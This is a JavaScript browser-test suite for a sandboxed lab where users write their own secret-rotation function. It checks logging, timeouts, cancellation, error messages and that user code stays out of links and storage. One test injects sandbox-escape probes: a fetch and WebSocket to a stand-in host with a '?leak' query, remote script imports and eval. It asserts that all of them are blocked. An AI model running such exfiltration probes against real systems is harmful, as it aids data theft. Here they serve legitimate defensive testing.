// A rotation function that is typed in: it runs in the sandbox and nowhere else, only when the reader says so, and what
// it cannot do. The lab's side of it is tested in Rust.
import assert from "node:assert/strict";
import { test } from "node:test";
import { pages } from "./page.mjs";

const open = pages();

/** A lab whose function is one's own, rotating, in the moment before its first call. */
async function rotating(text, options) {
  const opened = await open("#/lab", options);
  const { id } = opened;
  await id("story").selectOption({ label: "A secret without rotation" });
  await id("world-open").click();
  await id("field-strategy").selectOption("own");
  await id("dialog-submit").click();
  if (text !== undefined) await id("field-own-function").fill(text);
  await id("action-configure").click();
  await id("dialog-submit").click();
  await id("dialog-action").waitFor({ state: "detached" });
  return opened;
}

const status = (id, text) => id("own-status").filter({ hasText: text }).waitFor();

test("the example rotates a secret, each of its calls an event of the lab", async () => {
  const { id, page, complaints, requests } = await rotating();
  await id("own-use").click();
  await id("transport-forward").click();
  await id("status").filter({ hasText: "Rotation on" }).waitFor();
  await status(id, "finishSecret returned.");
  await id("filter-all").click();
  const events = await id("events").textContent();
  for (const call of ["GetSecretValue", "PutSecretValue", "DescribeSecret", "UpdateSecretVersionStage"]) assert.ok(events.includes(call), call);
  assert.equal(await page.locator("iframe").count(), 0, "the frame goes when the run is over");
  assert.ok(requests.every(({ url }) => new URL(url).origin === new URL(page.url()).origin || url.startsWith("blob:")));
  // Undone as one, and not done again at once.
  await id("undo").click();
  assert.equal(await page.locator("iframe").count(), 0);
  assert.deepEqual(complaints, []);
});

test("a loop without end is stopped by the page, which goes on meanwhile", async () => {
  const { id, page } = await rotating("export default () => { while (true); };");
  await id("own-use").click();
  await id("transport-forward").click();
  await status(id, "createSecret is running");
  const begun = Date.now();
  await id("theme").click();
  assert.ok(Date.now() - begun < 2000, "the page is not held up");
  await status(id, "counts as one that never answered");
  await id("filter-all").click();
  await id("events").getByText("Task timed out after 30.00 seconds").first().waitFor();
  assert.equal(await page.locator("iframe").count(), 0);
});

test("a run is cancelled, and its step waits", async () => {
  // It calls once, so that its frame is seen to be there: a frame that goes while it loads is a request that failed.
  const text = "export default async ({ SecretId }, { client }) => { await client.describeSecret({ SecretId }); await new Promise(() => {}); };";
  const { id, page, complaints } = await rotating(text);
  await id("own-use").click();
  await id("transport-forward").click();
  await status(id, "createSecret is running: 1 call so far.");
  await id("own-stop").click();
  await status(id, "createSecret was stopped before it answered. createSecret waits for your function.");
  assert.equal(await page.locator("iframe").count(), 0);
  assert.deepEqual(complaints, []);
});

test("it reaches no network, not even the page's own host, no storage, no page", async () => {
  const { id, page, requests, complaints } = await rotating("");
  const here = new URL("boot.js?leak", page.url()).href;
  await id("field-own-function").fill(`export default async () => {
    const tried = [];
    await fetch("https://example.com/?leak").catch((error) => tried.push("fetch"));
    const blocked = new Promise((done) => {
      addEventListener("securitypolicyviolation", ({ blockedURI }) => blockedURI.startsWith("wss:") && done("socket"));
    });
    try { new WebSocket("wss://example.com/"); } catch { /* told by the event */ }
    tried.push(await blocked);
    try { importScripts("https://example.com/x.js"); } catch { tried.push("import"); }
    await import("${here}").catch(() => tried.push("module"));
    try { (0, eval)("1"); } catch { tried.push("eval"); }
    tried.push(typeof localStorage, typeof document, typeof parent);
    throw new Error(tried.join(" "));
  };`);
  await id("own-use").click();
  await id("transport-forward").click();
  await status(id, "createSecret threw: fetch socket import module eval undefined undefined undefined");
  assert.deepEqual(requests.filter(({ url }) => url.includes("example.com")), []);
  assert.ok(complaints.includes(`failed: ${here} (csp)`), "it was stopped before it went out");
});

test("what is wrong with its text is told", async () => {
  for (const [text, says] of [
    ["const rotate = 1;", "There is no function to call"],
    ["export default async (event => {", "SyntaxError"],
    ['export default async (event, { client }) => { await client.getSecretValue({ SecretId: "none" }); };', "ResourceNotFoundException"],
    ['export default async (event, { client }) => { await client.send("LaunchRocket"); };', "LaunchRocket is outside this model"],
  ]) {
    const { id } = await rotating(text);
    await id("own-use").click();
    await id("transport-forward").click();
    await status(id, says);
  }
});

test("its text is in no link and no storage, and opening a link starts nothing", async () => {
  const options = { permissions: ["clipboard-read", "clipboard-write"] };
  const canary = "canary-5d1e";
  const { id, page, context } = await rotating(`export default async () => { /* ${canary} */ await new Promise(() => {}); };`, options);
  await id("own-use").click();
  await id("transport-forward").click();
  await status(id, "createSecret is running");
  await id("share").click();
  const link = await page.waitForFunction(() => navigator.clipboard.readText().then((text) => text.includes("?s=") && text)).then((text) => text.jsonValue());
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href]));
  assert.ok(!kept.includes(canary) && !link.includes(canary));
  const other = await context.newPage();
  await other.goto(link);
  await other.getByTestId("own-status").filter({ hasText: "createSecret waits for your function" }).waitFor();
  assert.equal(await other.locator("iframe").count(), 0);
  assert.ok(!(await other.content()).includes(canary));
});

test("the sandbox answers nobody but the page it lies beside", async () => {
  const { page, site } = await open("#/lab");
  const heard = await page.evaluate(async (url) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.src = `${url}sandbox.html`;
    const said = [];
    addEventListener("message", ({ data, origin }) => said.push([data[0], origin]));
    document.body.append(frame);
    while (said.length === 0) await new Promise((done) => setTimeout(done, 10));
    // A frame within it has another origin than the page.
    frame.contentWindow.postMessage(["answer", 1, 200, "{}"], "*");
    frame.remove();
    return said;
  }, site.url);
  assert.deepEqual(heard, [["ready", "null"]]);
});
